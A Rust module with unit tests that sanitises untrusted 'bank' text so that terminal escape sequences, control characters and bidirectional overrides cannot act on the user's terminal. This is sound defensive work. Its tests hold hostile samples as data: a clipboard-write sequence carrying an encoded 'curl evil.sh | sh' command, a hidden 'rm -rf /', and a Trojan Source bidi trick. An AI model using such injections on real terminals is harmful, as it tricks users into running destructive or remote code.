//! Bank text is data, never terminal commands. A bank folder can come from
//! anyone (a cloned repository, a download someone asks you to `check`), and
//! a terminal acts on what it is sent: `ESC ] 0 ;` retitles the window,
//! `ESC ] 52 ;` writes the clipboard, `ESC [ 2 J` clears the screen, a lone
//! carriage return or backspace overwrites what was printed, and
//! bidirectional controls reorder what the reader sees. Every piece of bank
//! text the CLI prints goes through [`terminal_safe`] first, before any style
//! of our own is added, so the only escape sequences that reach the terminal
//! are the ones the program wrote itself.

use std::borrow::Cow;
use std::fmt::Write as _;

/// `text` with every control character made visible: C0 controls as their
/// Unicode control pictures (`ESC` → `␛`, `BEL` → `␇`, a lone `CR` → `␍`),
/// `DEL` as `␡`, and C1 and bidirectional controls as `<U+009B>`. Line feeds
/// and tabs are kept, and so is `CR LF`, which is a line ending (as `LF`).
/// Nothing is dropped, so a reader vetting a bank sees that something odd is
/// there. Borrows when there is nothing to change, as for almost all text.
pub fn terminal_safe(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escaping) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' if chars.peek() == Some(&'\n') => {}
            c if !needs_escaping(c) => out.push(c),
            '\u{0}'..='\u{1f}' => out.push(control_picture(c)),
            '\u{7f}' => out.push('\u{2421}'),
            c => {
                let _ = write!(out, "<U+{:04X}>", u32::from(c));
            }
        }
    }
    Cow::Owned(out)
}

/// Whether `c` must not reach a terminal as it is.
fn needs_escaping(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        // C0 controls (ESC, BEL, BS, CR, …), DEL, and C1 controls (CSI as one
        // byte, `U+009B`, is as good as `ESC [` to many terminals).
        c if c.is_control() => true,
        // Bidirectional embeddings, overrides, isolates and marks: they make
        // text display in another order than it is stored ("Trojan Source").
        '\u{061C}'
        | '\u{200E}'
        | '\u{200F}'
        | '\u{202A}'..='\u{202E}'
        | '\u{2066}'..='\u{2069}' => true,
        _ => false,
    }
}

/// `U+2400 + c`: the Control Pictures block has one glyph per C0 control.
fn control_picture(c: char) -> char {
    char::from_u32(0x2400 + u32::from(c)).unwrap_or('\u{FFFD}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_text_is_borrowed_unchanged() {
        let text = "Plain text, `code`, tabs\tand\nnew lines, émigré, 漢字, 🙂.";
        assert!(matches!(terminal_safe(text), Cow::Borrowed(t) if t == text));
    }

    #[test]
    fn osc_title_and_clipboard_writes_are_made_visible() {
        let title = "x\u{1b}]0;PWNED\u{7}y";
        assert_eq!(terminal_safe(title), "x␛]0;PWNED␇y");
        let clipboard = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{1b}\\";
        assert_eq!(
            terminal_safe(clipboard),
            "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␛\\"
        );
    }

    #[test]
    fn csi_sequences_and_one_byte_c1_controls_are_made_visible() {
        assert_eq!(terminal_safe("\u{1b}[2J\u{1b}[H"), "␛[2J␛[H");
        assert_eq!(terminal_safe("a\u{9b}2Jb"), "a<U+009B>2Jb");
        assert_eq!(terminal_safe("\u{9d}0;t\u{9c}"), "<U+009D>0;t<U+009C>");
    }

    #[test]
    fn overwriting_tricks_are_made_visible() {
        assert_eq!(terminal_safe("safe\rrm -rf /"), "safe␍rm -rf /");
        assert_eq!(terminal_safe("ab\u{8}\u{8}cd"), "ab␈␈cd");
        assert_eq!(terminal_safe("a\u{7f}b\u{0}c"), "a␡b␀c");
    }

    #[test]
    fn crlf_line_endings_are_line_endings() {
        assert_eq!(terminal_safe("one\r\ntwo\r\n"), "one\ntwo\n");
    }

    #[test]
    fn bidirectional_controls_are_made_visible() {
        assert_eq!(
            terminal_safe("admin\u{202E}nimda\u{2066}x\u{2069}"),
            "admin<U+202E>nimda<U+2066>x<U+2069>"
        );
    }

    #[test]
    fn no_control_character_survives_any_input() {
        let every_char: String = (0u32..0x3000).filter_map(char::from_u32).collect();
        let safe = terminal_safe(&every_char);
        assert!(
            !safe.chars().any(needs_escaping),
            "a control character survived"
        );
    }
}
